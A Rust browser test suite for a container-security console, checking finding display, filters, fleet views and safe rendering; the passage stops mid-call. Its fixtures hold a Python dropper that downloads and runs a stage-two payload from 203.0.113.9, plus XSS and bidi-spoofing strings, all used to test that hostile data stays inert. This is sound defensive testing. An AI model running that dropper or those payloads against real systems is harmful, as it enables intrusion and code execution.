//! The console in headless Debian chromium: findings replayed from the example traces, a real
//! server on 127.0.0.1, real SQLite. Screenshots go to target/screenshots/.

#[path = "common/browser.rs"]
mod browser;
mod common;

use browser::{browser_available, Browser};
use common::*;
use serde_json::{json, Value};
use std::sync::Arc;
use ward_api::ApiConfig;
use ward_event::Finding;
use ward_store::{FindingStore, SqliteStore};

/// A Malicious Python finding with a script (the example traces need a trained model for
/// one); built like the detector builds them, with the record's real field names.
fn python_finding() -> Finding {
    serde_json::from_value(json!({
        "name": "projects/local/sources/ward/locations/global/findings/9a7c0e5b2d1f4e3a8b6c5d4e3f2a1b0c",
        "canonicalName": "projects/local/sources/ward/locations/global/findings/9a7c0e5b2d1f4e3a8b6c5d4e3f2a1b0c",
        "parent": "projects/local/sources/ward/locations/global",
        "resourceName": "//ward/nodes/node-a/namespaces/shop/pods/web-7d9c5b-x2k4q/containers/web",
        "state": "ACTIVE",
        "category": "Execution: Malicious Python executed",
        "findingClass": "THREAT",
        "severity": "CRITICAL",
        "eventTime": "2026-11-21T10:00:00.030000000Z",
        "createTime": "2026-11-21T10:00:00.030000000Z",
        "description": "A machine-learning model scored the Python code executed in this container as malicious.",
        "nextSteps": "1. Read the script contents below and decide whether it is expected. 2. Isolate the pod. 3. Find how the script got there and rotate reachable credentials.",
        "mute": "UNDEFINED",
        "mitreAttack": {"primaryTactic": "EXECUTION", "primaryTechniques": ["PYTHON", "COMMAND_AND_SCRIPTING_INTERPRETER"], "additionalTechniques": ["INGRESS_TOOL_TRANSFER"], "version": "18"},
        "processes": [
            {"name": "python3", "binary": {"path": "/usr/bin/python3.11", "size": 6831736, "sha256": "b1946ac92492d2347c6235b4d2611184b1946ac92492d2347c6235b4d2611184"},
             "script": {"path": "/tmp/.cache/update.py", "sha256": "4f0e1d2c3b4a59687766554433221100ffeeddccbbaa99887766554433221100",
                        "contents": "import base64, os, socket, subprocess\nimport urllib.request\n\nURL = \"http://203.0.113.9:8000/stage2\"\n\ndef fetch():\n    data = urllib.request.urlopen(URL, timeout=5).read()\n    path = \"/tmp/.cache/k\"\n    with open(path, \"wb\") as f:\n        f.write(base64.b64decode(data))\n    os.chmod(path, 0o755)\n    subprocess.Popen([path, \"--daemon\"])\n\nif __name__ == \"__main__\":\n    fetch()\n"},
             "args": ["python3", "/tmp/.cache/update.py"], "pid": 214, "parentPid": 213},
            {"name": "sh", "binary": {"path": "/bin/dash"}, "args": ["sh", "-c", "python3 /tmp/.cache/update.py"], "pid": 213, "parentPid": 100},
            {"name": "nginx", "binary": {"path": "/usr/sbin/nginx"}, "args": ["nginx", "-g", "daemon off;"], "pid": 100, "parentPid": 1}
        ],
        "containers": [{"name": "web", "uri": "registry.example/shop/web:1.4.2", "imageId": "sha256:a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1", "labels": [{"name": "app", "value": "web"}]}],
        "kubernetes": {"pods": [{"ns": "shop", "name": "web-7d9c5b-x2k4q", "labels": [{"name": "app", "value": "web"}]}], "nodes": [{"name": "node-a"}]},
        "sourceProperties": {
            "Container_Id": "3f9a1c2b4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8",
            "Container_Image_Uri": "registry.example/shop/web:1.4.2",
            "Container_Name": "web", "Pod_Name": "web-7d9c5b-x2k4q", "Pod_Namespace": "shop",
            "VM_Instance_Name": "node-a", "Count": 1,
            "Model_Score": 0.97,
            "Model_Top_Reasons": ["downloads code over HTTP (urllib.request.urlopen)", "decodes base64 into a file", "makes the file executable and runs it"],
            "Mitre_Technique_Ids": ["T1059.006", "T1059", "T1105"],
            "VirusTotal_Links": ["https://www.virustotal.com/gui/file/4f0e1d2c3b4a59687766554433221100ffeeddccbbaa99887766554433221100"]
        }
    }))
    .unwrap()
}

const SCRIPT_TAG: &str = "<script>document.title='pwned';window.__xss=1;</script>";
const IMG_TAG: &str = "\"><img src=x onerror=\"document.title='pwned';window.__xss=2\">";

/// A finding whose attacker-controlled strings are HTML/JS payloads.
fn hostile_finding() -> Finding {
    let both = format!("{SCRIPT_TAG}{IMG_TAG}");
    serde_json::from_value(json!({
        "name": "projects/local/sources/ward/locations/global/findings/eeee0000eeee0000eeee0000eeee0000",
        "canonicalName": "projects/local/sources/ward/locations/global/findings/eeee0000eeee0000eeee0000eeee0000",
        "parent": "projects/local/sources/ward/locations/global",
        "resourceName": format!("//ward/containers/{IMG_TAG}"),
        "state": "ACTIVE",
        "category": "Execution: Malicious Python executed",
        "findingClass": "THREAT",
        "severity": "HIGH",
        "eventTime": "2026-11-22T08:00:00Z",
        "createTime": "2026-11-22T08:00:00Z",
        "description": format!("description {both}"),
        "nextSteps": format!("1. {SCRIPT_TAG} 2. {IMG_TAG}"),
        "mute": "UNDEFINED",
        "externalUri": "javascript:document.title='pwned'",
        "mitreAttack": {"primaryTactic": "EXECUTION", "primaryTechniques": ["PYTHON"], "version": "18"},
        "processes": [
            {"name": IMG_TAG, "binary": {"path": format!("/tmp/{IMG_TAG}")},
             "script": {"path": format!("/tmp/{SCRIPT_TAG}.py"), "contents": format!("print(1)\n{SCRIPT_TAG}\n{IMG_TAG}\n<svg onload=\"window.__xss=3\">")},
             "args": ["python3", SCRIPT_TAG, IMG_TAG, "<iframe src=javascript:window.__xss=4>"], "pid": 7, "parentPid": 6},
            {"name": SCRIPT_TAG, "args": [IMG_TAG], "pid": 6}
        ],
        "containers": [{"name": IMG_TAG, "uri": SCRIPT_TAG, "labels": [{"name": IMG_TAG, "value": SCRIPT_TAG}]}],
        "kubernetes": {"pods": [{"ns": SCRIPT_TAG, "name": IMG_TAG}], "nodes": [{"name": IMG_TAG}]},
        "sourceProperties": {
            "Container_Name": IMG_TAG, "Count": 1,
            "Model_Top_Reasons": [SCRIPT_TAG, IMG_TAG],
            "Intel_Comment": IMG_TAG, "Intel_Feed": SCRIPT_TAG,
            "Mitre_Technique_Ids": ["T1059\"><img src=x onerror=window.__xss=5>", "T1059.006"],
            "VirusTotal_Links": ["javascript:window.__xss=6", format!("https://www.virustotal.com/gui/file/{IMG_TAG}")]
        }
    }))
    .unwrap()
}

async fn assert_nothing_ran(b: &Browser, title: &str) {
    let v = b
        .js("return {title: document.title, xss: (typeof window.__xss), \
             imgs: document.querySelectorAll('img').length, \
             iframes: document.querySelectorAll('iframe').length, \
             svgs: document.querySelectorAll('svg').length, \
             scripts: Array.from(document.scripts).map(s => s.src), \
             jsLinks: Array.from(document.querySelectorAll('a')).filter(a => !/^(https?:|#)/.test(a.getAttribute('href') || '#')).length}")
        .await;
    assert_eq!(v["xss"], json!("undefined"), "{v}");
    assert!(v["title"].as_str().unwrap().starts_with(title), "{v}");
    assert!(!v["title"].as_str().unwrap().contains("pwned"), "{v}");
    assert_eq!(v["imgs"], json!(0), "{v}");
    assert_eq!(v["iframes"], json!(0), "{v}");
    assert_eq!(v["svgs"], json!(0), "{v}");
    assert_eq!(v["jsLinks"], json!(0), "{v}");
    let scripts = v["scripts"].as_array().unwrap();
    assert_eq!(scripts.len(), 1, "{v}");
    assert!(scripts[0].as_str().unwrap().ends_with("/assets/app.js"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn console_walkthrough_in_chromium() {
    if !browser_available() {
        return;
    }
    let (_d, store, findings) = example_store();
    store.upsert(&python_finding()).unwrap();
    let total = findings.len() + 1;
    let srv = TestServer::start(ApiConfig::default(), store.clone()).await;
    let b = Browser::start().await;

    // The printed console URL carries the write token in the fragment; the console keeps it
    // in sessionStorage and removes it from the address bar.
    b.goto(&srv.console_url).await;
    b.wait_ready("list").await;
    let url = b.client.current_url().await.unwrap();
    assert!(!url.as_str().contains("token"), "{url}");
    let kept = b.js("return sessionStorage.getItem('ward.token')").await;
    assert_eq!(kept.as_str(), srv.ephemeral_token.as_deref());
    assert_eq!(b.text("#total-size").await, total.to_string());
    assert_eq!(b.count("#findings-table tbody tr").await, total.min(50));
    let shot = b.screenshot("01-findings-list").await;
    eprintln!("screenshot {}", shot.display());

    // Filter with the grammar.
    b.reset_ready().await;
    let input = b
        .client
        .find(fantoccini::Locator::Css("#filter-input"))
        .await
        .unwrap();
    input
        .send_keys("severity=CRITICAL containerName:web")
        .await
        .unwrap();
    b.click("#filter-apply").await;
    b.wait_ready("list").await;
    let want = store.count("severity=CRITICAL containerName:web").unwrap();
    assert!(want > 0);
    assert_eq!(b.text("#total-size").await, want.to_string());
    let sevs = b
        .js("return Array.from(document.querySelectorAll('#findings-table .c-sev')).slice(1).map(e => e.innerText.trim())")
        .await;
    assert!(
        sevs.as_array().unwrap().iter().all(|s| s == "CRITICAL"),
        "{sevs}"
    );
    b.screenshot("02-findings-filtered").await;

    // A quick filter on top (state), then a malformed filter shows the position.
    b.reset_ready().await;
    b.click("button[data-qf='state=ACTIVE']").await;
    b.wait_ready("list").await;
    let meta = b.text("#list-meta").await;
    assert!(meta.contains("state=ACTIVE"), "{meta}");
    b.reset_ready().await;
    b.goto(&format!("{}/#/?q=severity%3D", srv.base)).await;
    b.wait_ready("list-error").await;
    let err = b.text("#filter-error").await;
    assert!(err.contains("column 10"), "{err}");
    assert!(err.contains('^'), "{err}");
    b.screenshot("03-filter-error").await;

    // Open the Malicious Python finding from the list.
    b.reset_ready().await;
    b.goto(&format!(
        "{}/#/?category=MALICIOUS_PYTHON_EXECUTED",
        srv.base
    ))
    .await;
    b.wait_ready("list").await;
    assert_eq!(b.count("#findings-table tbody tr").await, 1);
    b.reset_ready().await;
    b.click("#findings-table tbody tr .cat-link").await;
    b.wait_ready("finding-summary").await;
    let py = python_finding();
    assert_eq!(b.text("#finding-title").await, py.category);
    let script = b
        .js("return document.getElementById('script-contents').textContent")
        .await;
    assert_eq!(
        script.as_str(),
        py.processes[0].script.as_ref().unwrap().contents.as_deref()
    );
    assert_eq!(b.count("#process-tree li").await, 3);
    assert!(b.text("#process-tree li.trigger").await.contains("python3"));
    let mitre = b
        .js("return Array.from(document.querySelectorAll('#mitre-links a')).map(a => a.href)")
        .await;
    assert!(
        mitre
            .as_array()
            .unwrap()
            .contains(&json!("https://attack.mitre.org/techniques/T1059/006/")),
        "{mitre}"
    );
    let vt = b
        .js("return Array.from(document.querySelectorAll('#vt-links a')).map(a => a.href)")
        .await;
    assert!(vt.as_array().unwrap().contains(&json!(
        "https://www.virustotal.com/gui/file/4f0e1d2c3b4a59687766554433221100ffeeddccbbaa99887766554433221100"
    )));
    let resource = b.text("#card-resource").await;
    for s in [
        "node-a",
        "shop",
        "web-7d9c5b-x2k4q",
        "registry.example/shop/web:1.4.2",
    ] {
        assert!(resource.contains(s), "{resource}");
    }
    assert!(b.count("#next-steps li").await >= 3);
    assert!(b.count("#related-timeline li").await >= 2);
    b.screenshot("04-finding-summary").await;

    // JSON tab: the exact record.
    b.reset_ready().await;
    b.click("#tab-button-json").await;
    b.wait_ready("finding-json").await;
    let shown = b
        .js("return document.getElementById('finding-json').textContent")
        .await;
    let parsed: Value = serde_json::from_str(shown.as_str().unwrap()).unwrap();
    let stored = store.get(py.id()).unwrap().unwrap();
    assert_eq!(
        parsed,
        json!({"finding": stored, "resource": stored.resource()}),
        "the JSON tab shows SCC's {{finding, resource}}"
    );
    b.click("#copy-json").await;
    b.screenshot("05-finding-json").await;

    // Back to Summary and follow a related finding on the timeline.
    b.reset_ready().await;
    b.click("#tab-button-summary").await;
    b.wait_ready("finding-summary").await;
    let target = b
        .js("return document.querySelector('#related-timeline .related-link').closest('li').getAttribute('data-id')")
        .await;
    let target = target.as_str().unwrap().to_string();
    b.reset_ready().await;
    b.click("#related-timeline .related-link").await;
    b.wait_ready("finding-summary").await;
    let url = b.client.current_url().await.unwrap();
    assert!(
        url.as_str().ends_with(&format!("#/findings/{target}")),
        "{url}"
    );
    let tf = store.get(&target).unwrap().unwrap();
    assert_eq!(b.text("#finding-title").await, tf.category);
    b.screenshot("06-related-finding").await;

    // Mark it inactive, then mute it (the write token came from the URL fragment).
    b.click("#btn-state").await;
    wait_for(&b, "document.querySelector('#action-msg.ok') !== null").await;
    assert_eq!(
        store.get(&target).unwrap().unwrap().state.as_str(),
        "INACTIVE"
    );
    assert_eq!(b.text("#btn-state").await, "Mark active");
    b.click("#btn-mute").await;
    wait_for(
        &b,
        "document.getElementById('btn-mute').innerText === 'Unmute'",
    )
    .await;
    assert_eq!(store.get(&target).unwrap().unwrap().mute.as_str(), "MUTED");
    b.screenshot("07-finding-inactive-muted").await;

    // Without a token, the buttons explain what is needed and change nothing.
    b.js("sessionStorage.removeItem('ward.token')").await;
    b.click("#btn-state").await;
    wait_for(
        &b,
        "document.getElementById('action-msg').innerText.includes('write token')",
    )
    .await;
    assert_eq!(
        store.get(&target).unwrap().unwrap().state.as_str(),
        "INACTIVE"
    );

    b.close().await;
    srv.stop().await;
}

async fn wait_for(b: &Browser, cond: &str) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        if b.js(&format!("return !!({cond})")).await == json!(true) {
            return;
        }
        assert!(std::time::Instant::now() < deadline, "timed out: {cond}");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_strings_render_as_inert_text() {
    if !browser_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(SqliteStore::open(dir.path().join("w.db")).unwrap());
    let f = hostile_finding();
    store.upsert(&f).unwrap();
    let srv = TestServer::start(ApiConfig::default(), store.clone()).await;
    let b = Browser::start().await;

    b.goto(&format!("{}/#/", srv.base)).await;
    b.wait_ready("list").await;
    assert_nothing_ran(&b, "Ward").await;
    let row = b.text("#findings-table tbody tr").await;
    assert!(row.contains(IMG_TAG), "shown literally: {row}");

    b.reset_ready().await;
    b.goto(&format!("{}/#/findings/{}", srv.base, f.id())).await;
    b.wait_ready("finding-summary").await;
    // Give any injected handler time to fire.
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert_nothing_ran(&b, "Ward").await;
    let script = b
        .js("return document.getElementById('script-contents').textContent")
        .await;
    assert_eq!(
        script.as_str(),
        f.processes[0].script.as_ref().unwrap().contents.as_deref()
    );
    let args = b
        .js("return Array.from(document.querySelectorAll('#card-detected .args code')).map(c => c.textContent)")
        .await;
    assert_eq!(args, json!(f.processes[0].args));
    let page = b.js("return document.body.innerText").await;
    let page = page.as_str().unwrap();
    for s in [SCRIPT_TAG, IMG_TAG] {
        assert!(page.contains(s), "{s} not shown literally");
    }
    // No link was made from the javascript: URIs or the bad technique id.
    let hrefs = b
        .js("return Array.from(document.querySelectorAll('a')).map(a => a.getAttribute('href'))")
        .await;
    for h in hrefs.as_array().unwrap() {
        let h = h.as_str().unwrap();
        assert!(h.starts_with('#') || h.starts_with("https://"), "{h}");
        assert!(!h.contains('<') && !h.contains('"'), "{h}");
    }
    b.screenshot("08-hostile-finding-summary").await;

    b.reset_ready().await;
    b.click("#tab-button-json").await;
    b.wait_ready("finding-json").await;
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert_nothing_ran(&b, "Ward").await;
    let shown = b
        .js("return document.getElementById('finding-json').textContent")
        .await;
    let parsed: Value = serde_json::from_str(shown.as_str().unwrap()).unwrap();
    assert_eq!(parsed, json!({"finding": f, "resource": f.resource()}));

    b.close().await;
    srv.stop().await;
}

/// A finding whose pod name reverses its tail with U+202E (`evil\u{202e}gnp.exe` would read
/// `evilexe.png`), whose container name hides zero-width and control characters, and whose
/// argv carries a 500-character word without a break opportunity.
fn spoofing_finding() -> Finding {
    let mut v = serde_json::to_value(python_finding()).unwrap();
    let id = "5b0f5b0f5b0f5b0f5b0f5b0f5b0f5b0f";
    let name = format!("projects/local/sources/ward/locations/global/findings/{id}");
    v["name"] = json!(name);
    v["canonicalName"] = json!(name);
    v["kubernetes"]["pods"][0]["name"] = json!(POD);
    v["sourceProperties"]["Pod_Name"] = json!(POD);
    v["containers"][0]["name"] = json!(CONTAINER);
    v["sourceProperties"]["Container_Name"] = json!(CONTAINER);
    // The long word wherever a finding carries free text.
    let long = LONG_WORD.as_str();
    v["processes"][0]["args"] = json!(["python3", long]);
    v["processes"][0]["script"]["path"] = json!(format!("/tmp/{long}.py"));
    v["processes"][1]["binary"]["path"] = json!(format!("/bin/{long}"));
    v["description"] = json!(format!("description {long}"));
    v["nextSteps"] = json!(format!("1. {long} 2. next"));
    v["containers"][0]["uri"] = json!(format!("registry.example/{long}:1"));
    v["containers"][0]["labels"][0]["value"] = json!(long);
    v["kubernetes"]["pods"][0]["labels"][0]["value"] = json!(long);
    v["sourceProperties"]["Model_Top_Reasons"] = json!([long]);
    v["sourceProperties"]["Intel_Comment"] = json!(long);
    serde_json::from_value(v).unwrap()
}

const POD: &str = "evil\u{202e}gnp.exe";
const CONTAINER: &str = "web\u{200b}\u{2066}\u{1b}[31m\u{feff}";
static LONG_WORD: std::sync::LazyLock<String> = std::sync::LazyLock::new(|| "A".repeat(500));

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bidi_and_invisible_characters_are_shown_and_long_tokens_wrap() {
    if !browser_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(SqliteStore::open(dir.path().join("w.db")).unwrap());
    let f = spoofing_finding();
    store.upsert(&f).unwrap();
    let srv = TestServer::start(ApiConfig::default(), store.clone()).await;
    let b = Browser::start().await;
    // Every text node of the page, and the escapes shown.
    let probe = "const w = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT); \
                 let raw = []; for (let n = w.nextNode(); n; n = w.nextNode()) { \
                   for (const ch of n.data) { const c = ch.codePointAt(0); \
                     if ((c < 32 && c !== 9 && c !== 10 && c !== 13) || (c >= 0x7f && c <= 0x9f) || c === 0x61c || \
                         (c >= 0x200b && c <= 0x200f) || (c >= 0x202a && c <= 0x202e) || c === 0x2060 || \
                         (c >= 0x2066 && c <= 0x2069) || c === 0xfeff) raw.push(c.toString(16)); } } \
                 return {raw, escapes: Array.from(document.querySelectorAll('.esc')).map(e => e.textContent), \
                         text: document.body.innerText};";

    b.goto(&format!("{}/#/", srv.base)).await;
    b.wait_ready("list").await;
    let v = b.js(probe).await;
    assert_eq!(
        v["raw"],
        json!([]),
        "raw hidden characters in the list: {v}"
    );
    let text = v["text"].as_str().unwrap();
    assert!(text.contains("evil\\u202Egnp.exe"), "{text}");
    assert!(!text.contains("exe.png"), "{text}");
    assert!(
        text.contains("web\\u200B\\u2066\\u001B[31m\\uFEFF"),
        "{text}"
    );

    b.reset_ready().await;
    b.goto(&format!("{}/#/findings/{}", srv.base, f.id())).await;
    b.wait_ready("finding-summary").await;
    let v = b.js(probe).await;
    assert_eq!(
        v["raw"],
        json!([]),
        "raw hidden characters on the finding page: {v}"
    );
    let escapes = v["escapes"].as_array().unwrap();
    assert!(escapes.contains(&json!("\\u202E")), "{v}");
    assert!(escapes.contains(&json!("\\u001B")), "{v}");
    // The escape is styled (visible as such), and values are bidi-isolated.
    let style = b
        .js("const e = document.querySelector('.esc'); const s = getComputedStyle(e); \
             const arg = document.querySelector('#card-detected .args code'); \
             const pname = document.querySelector('.pname'); \
             return {bg: s.backgroundColor, border: s.borderStyle, bidi: s.unicodeBidi, \
                     arg: getComputedStyle(arg).unicodeBidi, pname: getComputedStyle(pname).unicodeBidi, \
                     w: e.getBoundingClientRect().width};")
        .await;
    assert_ne!(style["bg"], json!("rgba(0, 0, 0, 0)"), "{style}");
    assert_eq!(style["border"], json!("dashed"), "{style}");
    // Inline value elements (block ones are isolated by the browser's own style sheet).
    assert_eq!(style["arg"], json!("isolate"), "{style}");
    assert_eq!(style["pname"], json!("isolate"), "{style}");
    assert_eq!(style["bidi"], json!("isolate"), "{style}");
    assert!(style["w"].as_f64().unwrap() > 10.0, "{style}");
    // The 500-character word is shown whole, and no card is wider than its box.
    let text = v["text"].as_str().unwrap();
    assert!(text.contains(LONG_WORD.as_str()), "long argument not shown");
    let cards = b
        .js(
            "return Array.from(document.querySelectorAll('.card, .fhead')).map(c => \
             ({id: c.id || c.className, sw: c.scrollWidth, cw: c.clientWidth}))",
        )
        .await;
    let cards = cards.as_array().unwrap();
    assert!(cards.len() >= 3, "{cards:?}");
    for c in cards {
        assert!(
            c["sw"].as_u64().unwrap() <= c["cw"].as_u64().unwrap(),
            "card overflows: {c}"
        );
    }
    let page = b
        .js("return {sw: document.documentElement.scrollWidth, cw: document.documentElement.clientWidth}")
        .await;
    assert!(
        page["sw"].as_u64() <= page["cw"].as_u64(),
        "page scrolls sideways: {page}"
    );
    b.screenshot("09-bidi-and-long-token").await;
    b.close().await;
    srv.stop().await;
}

/// [`python_finding`] as reported by another agent: its own id, time, node, container id,
/// cluster and project.
fn fleet_finding(
    id: &str,
    secs: u32,
    node: &str,
    cid: &str,
    cluster: &str,
    project: &str,
) -> Finding {
    let mut f = python_finding();
    f.name = f.name.replace(f.id(), id);
    f.canonical_name = f.name.clone();
    f.event_time = format!("2026-11-21T10:{:02}:{:02}Z", secs / 60, secs % 60);
    f.create_time = f.event_time.clone();
    f.kubernetes.as_mut().unwrap().nodes[0].name = node.into();
    f.source_properties
        .insert("VM_Instance_Name".into(), json!(node));
    f.source_properties
        .insert("Container_Id".into(), json!(cid));
    f.resource_name =
        format!("//ward/nodes/{node}/namespaces/shop/pods/web-7d9c5b-x2k4q/containers/web");
    f.cluster = (!cluster.is_empty()).then(|| cluster.to_string());
    f.project_display_name = (!project.is_empty()).then(|| project.to_string());
    f
}

/// The fleet console: cluster and node chips built from the listed findings narrow the list
/// (values quoted into the filter, hostile names inert), the finding page shows project,
/// cluster and node in the resource card, the JSON tab the `{finding, resource}` pair, and
/// related findings include the same pod's findings reported from other nodes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fleet_console_filters_by_cluster_and_node_and_shows_the_resource() {
    if !browser_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(SqliteStore::open(dir.path().join("fleet.db")).unwrap());
    // A cluster name with a quote, a backslash and markup: it must filter and stay text.
    let odd = format!("eu \"west\" \\ {IMG_TAG}");
    let fs = vec![
        fleet_finding(
            "f1aa0000000000000000000000000001",
            0,
            "node-a",
            "c-a",
            "prod-eu",
            "shop",
        ),
        fleet_finding(
            "f1aa0000000000000000000000000002",
            30,
            "node-b",
            "c-b",
            "prod-eu",
            "shop",
        ),
        fleet_finding(
            "f1aa0000000000000000000000000003",
            40,
            "node-c",
            "c-c",
            &odd,
            "",
        ),
        fleet_finding(
            "f1aa0000000000000000000000000004",
            50,
            "node-d",
            "c-d",
            "",
            "",
        ),
    ];
    store.upsert_many(&fs).unwrap();
    let srv = TestServer::start(ApiConfig::default(), store.clone()).await;
    let b = Browser::start().await;
    b.goto(&srv.console_url).await;
    b.wait_ready("list").await;
    let chips = |key: &'static str| {
        let b = &b;
        async move {
            b.js(&format!(
                "return Array.from(document.querySelectorAll('#fleet-{key} button')).map(e => e.textContent)"
            ))
            .await
        }
    };
    let mut clusters = vec!["prod-eu".to_string(), odd.clone()];
    clusters.sort();
    assert_eq!(chips("cluster").await, json!(clusters));
    assert_eq!(
        chips("node").await,
        json!(["node-a", "node-b", "node-c", "node-d"])
    );
    b.screenshot("10-fleet-list").await;

    // A cluster chip narrows the list to that cluster.
    b.reset_ready().await;
    b.js("document.querySelector(\"#fleet-cluster button[data-qf='cluster=prod-eu']\").click()")
        .await;
    b.wait_ready("list").await;
    assert_eq!(b.text("#total-size").await, "2");
    assert!(b
        .text("#list-meta")
        .await
        .contains(r#"resource.cluster="prod-eu""#));
    assert_eq!(chips("node").await, json!(["node-a", "node-b"]));
    // ...and a node chip on top of it.
    b.reset_ready().await;
    b.js("document.querySelector(\"#fleet-node button[data-qf='node=node-b']\").click()")
        .await;
    b.wait_ready("list").await;
    assert_eq!(b.text("#total-size").await, "1");
    let url = b.client.current_url().await.unwrap();
    assert!(
        url.as_str().contains("cluster=prod-eu") && url.as_str().contains("node=node-b"),
        "{url}"
    );
    // Clicking the selected cluster chip lifts that filter (the node one stays).
    b.reset_ready().await;
    b.js("document.querySelector(\"#fleet-cluster button.on\").click()")
        .await;
    b.wait_ready("list").await;
    assert_eq!(b.text("#total-size").await, "1");
    assert!(!b.text("#list-meta").await.contains("cluster"));

    // The odd cluster name: quoted into the filter, matched exactly, shown as text.
    b.reset_ready().await;
    b.goto(&format!("{}/#/", srv.base)).await;
    b.wait_ready("list").await;
    b.reset_ready().await;
    b.js("Array.from(document.querySelectorAll('#fleet-cluster button')).find(e => e.textContent !== 'prod-eu').click()")
        .await;
    b.wait_ready("list").await;
    assert_eq!(b.text("#total-size").await, "1");
    assert_nothing_ran(&b, "Ward").await;
    let row = b.text("#findings-table tbody tr").await;
    assert!(row.contains(&odd), "{row}");

    // The finding page: project, cluster, node; related across nodes.
    let f2 = &fs[1];
    b.reset_ready().await;
    b.goto(&format!("{}/#/findings/{}", srv.base, f2.id()))
        .await;
    b.wait_ready("finding-summary").await;
    assert_eq!(b.text("#card-resource dd.res-cluster").await, "prod-eu");
    assert_eq!(b.text("#card-resource dd.res-project").await, "shop");
    assert_eq!(b.text("#card-resource dd.res-node").await, "node-b");
    assert_eq!(b.text("#card-resource dd.res-type").await, "container");
    // The same pod in the same cluster was reported from node-a: related. The same pod name
    // in the other clusters is not.
    let related = b
        .js("return Array.from(document.querySelectorAll('#related-timeline li')).map(e => e.getAttribute('data-id'))")
        .await;
    assert_eq!(related, json!([fs[0].id(), f2.id()]));
    assert!(b.text("#related-timeline").await.contains("node node-a"));
    b.screenshot("11-fleet-finding").await;
    b.reset_ready().await;
    b.click("#tab-button-json").await;
    b.wait_ready("finding-json").await;
    let shown = b
        .js("return document.getElementById('finding-json').textContent")
        .await;
    let parsed: Value = serde_json::from_str(shown.as_str().unwrap()).unwrap();
    assert_eq!(parsed["resource"]["cluster"], json!("prod-eu"));
    assert_eq!(parsed["resource"]["project_display_name"], json!("shop"));
    assert_eq!(parsed["resource"]["node"], json!("node-b"));
    assert_eq!(parsed["finding"], serde_json::to_value(f2).unwrap());

    b.close().await;
    srv.stop().await;
}

/// POSTs JSON to the collector and returns the status and the answer.
async fn post_json(url: &str, token: Option<&str>, body: &Value) -> (u16, Value) {
    let mut rq = reqwest::Client::new().post(url).json(body);
    if let Some(t) = token {
        rq = rq.bearer_auth(t);
    }
    let r = rq.send().await.unwrap();
    let s = r.status().as_u16();
    (s, r.json::<Value>().await.unwrap_or(Value::Null))
}

/// Per-node health from a collector's node registry: three nodes enrolled over HTTP, one
/// with findings and a heartbeat whose health reports ring-buffer and outbox drops, one with
/// a single finding (in a cluster whose name is markup), and one seen last ten minutes ago
/// and never since (stale, no findings). The Node chips are every enrolled node, titled with
/// last seen and the stale one marked; the Nodes page shows each node's cluster, project,
/// agent version, last seen (relative and absolute, as the API has it), drops and status, and
/// links to the list filtered to the node; the finding page's Node row links to the Nodes
/// page. On a server without a registry (`ward agent --serve`: 404) the chips still come
/// from the findings and the Nodes page says there is no registry.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fleet_console_shows_per_node_health_from_the_registry() {
    if !browser_available() {
        return;
    }
    const SECRET: &str = "enroll-secret-0123456789";
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(SqliteStore::open(dir.path().join("collector.db")).unwrap());
    let cfg = ApiConfig {
        enrollment_secret: Some(SECRET.into()),
        ..ApiConfig::default()
    };
    let srv = TestServer::start_with_nodes(cfg, store.clone(), Some(store.clone())).await;
    let mut tokens = std::collections::BTreeMap::new();
    for node in ["node-a", "node-b", "node-c"] {
        let (s, v) = post_json(
            &format!("{}/v1/enroll", srv.base),
            None,
            &json!({"node": node, "secret": SECRET, "agentVersion": "0.9.0"}),
        )
        .await;
        assert_eq!(s, 200, "{v}");
        tokens.insert(node, v["token"].as_str().unwrap().to_string());
    }
    let ingest = format!("{}/v1/ingest", srv.base);
    let odd = format!("eu {IMG_TAG}");
    let fa = [
        fleet_finding(
            "a0de0000000000000000000000000001",
            0,
            "node-a",
            "c-a1",
            "prod-eu",
            "shop",
        ),
        fleet_finding(
            "a0de0000000000000000000000000002",
            20,
            "node-a",
            "c-a2",
            "prod-eu",
            "shop",
        ),
    ];
    let fb = fleet_finding(
        "b0de0000000000000000000000000001",
        40,
        "node-b",
        "c-b",
        &odd,
        "",
    );
    let batch = |node: &str, fs: &[&Finding], health: Value| {
        json!({"node": node, "agentVersion": "0.9.1", "health": health,
               "findings": fs.iter().map(|f| serde_json::to_value(f).unwrap()).collect::<Vec<_>>()})
    };
    let (s, v) = post_json(
        &ingest,
        Some(&tokens["node-a"]),
        &batch("node-a", &[&fa[0], &fa[1]], json!({"kernel_drops": 0})),
    )
    .await;
    assert_eq!((s, v["inserted"].as_u64()), (200, Some(2)), "{v}");
    // node-a's heartbeat: the health summary its agent's HealthBoard sends, with drops.
    let (s, v) = post_json(
        &ingest,
        Some(&tokens["node-a"]),
        &batch(
            "node-a",
            &[],
            json!({"kernel_drops": 7, "outbox_dropped": 3, "outbox_rows": 12, "central_skipped": 0}),
        ),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    let (s, v) = post_json(
        &ingest,
        Some(&tokens["node-b"]),
        &batch(
            "node-b",
            &[&fb],
            json!({"kernel_drops": 0, "outbox_dropped": 0}),
        ),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    // node-c reported once, ten minutes ago (the registry keeps what the collector saw).
    let ten_min_ago = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as i64
        - 600_000_000_000;
    ward_store::NodeStore::node_seen(
        store.as_ref(),
        "node-c",
        "0.8.0",
        Some(r#"{"kernel_drops": 1}"#),
        ten_min_ago,
    )
